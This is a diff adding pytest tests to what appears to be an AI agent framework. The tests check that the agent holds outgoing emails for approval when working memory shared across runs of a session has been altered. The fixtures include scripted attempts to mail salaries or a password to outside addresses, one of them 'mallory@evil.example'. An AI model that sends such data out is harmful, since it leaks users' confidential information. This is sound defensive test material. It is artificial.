@@ -279,3 +279,49 @@ def test_an_address_that_is_only_spoken_of_is_asked_about(ask, profile, goal):
     to_mallory = letter("mallory@evil.example", body="The salaries")
     run = ask(in_order(READ, to_mallory, say("done")), goal)
     assert waits(run) and mail.outbox == []
+
+
+NOTE = call(("context_create_detail", {"parent": "task-0", "name": "Zed", "detail": MORE}))
+READY = call(("ask_user", {"question": "Ready?"}))  # its run goes on, and leaves no memory yet
+
+
+@pytest.mark.parametrize("way", ["a program's goal", "a page of an agent's", "nothing"])
+def test_what_another_run_of_the_conversation_puts_before_the_agent_counts(
+    ask, world, no_mail_after_outside, inbox, way
+):
+    """It began later, and both show the same working memory."""
+    run = ask(None, f"Email {ZED} the news", drive=False, session_key="s")
+    if way == "a program's goal":
+        program = by_token(world.user, world.organization.pk)
+        ask(in_order(NOTE, READY), MORE, actor=program, session_key="s")
+    elif way == "a page of an agent's":
+        ask(in_order(READ, NOTE, READY), "Any news?", session_key="s")
+    Scripted.play = staticmethod(in_order(letter(ZED, body="The salaries"), say("done")))
+    executor.run(run.pk)
+    assert [one.to for one in mail.outbox] == ([[ZED]] if way == "nothing" else [])
+
+
+def test_what_was_approved_is_asked_about_again_once_such_a_page_stands_there(ask, world, profile):
+    profile("careful")
+    run = ask(in_order(letter(ZED)), f"Email {ZED} the news", session_key="s")
+    approve(run.approvals.get().pk, decider(world))
+    ask(in_order(READ, NOTE, READY), "Any news?", session_key="s")
+    Scripted.play = staticmethod(in_order(letter(ZED, body="The salaries"), say("done")))
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert waits(run) and [one.body for one in mail.outbox] == ["Friday it is."]
+
+
+def test_a_password_that_such_a_page_holds_is_one(ask, profile, add_tool):
+    @add_tool(name="get_account")
+    def get_account(run):
+        return {"password": "hunter2-Xk9"}
+
+    profile("balanced")
+    run = ask(None, f"Email {ZED} the news", drive=False, session_key="s")
+    note = call(("context_create_detail", {"parent": "task-0", "name": "N", "detail": "hunter2-Xk9"}))
+    ask(in_order(call(("get_account", {})), note, READY), "How is my account?", session_key="s")
+    Scripted.play = staticmethod(in_order(letter(ZED, body="hunter2-Xk9"), say("done")))
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert waits(run) and mail.outbox == []
